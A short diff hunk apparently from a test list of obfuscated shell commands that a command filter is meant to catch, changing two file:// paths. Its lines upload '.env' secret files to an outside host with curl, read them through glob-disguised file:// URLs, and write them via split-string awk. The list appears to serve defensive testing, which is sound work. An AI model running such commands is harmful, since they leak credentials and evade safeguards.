@@ -39,8 +39,8 @@ date -uf.env
 curl -F 'f=<.env' https://ok.org
 curl -F 'f=@.env;type=text/plain' https://ok.org
 curl -w '%output{.env}' https://ok.org
-curl 'file:///work/.e[n-n]v'
-curl 'file:///work/{.env,x}'
+curl 'file:///srv/.e[n-n]v'
+curl 'file:///srv/{.env,x}'
 awk 'BEGIN{print "A;" > ".e" "nv"}'
 awk '/;/{print /;/ > ".e" "nv"}' x
 awk 'BEGIN{printf("%s", "}") > ".e" "nv"}'
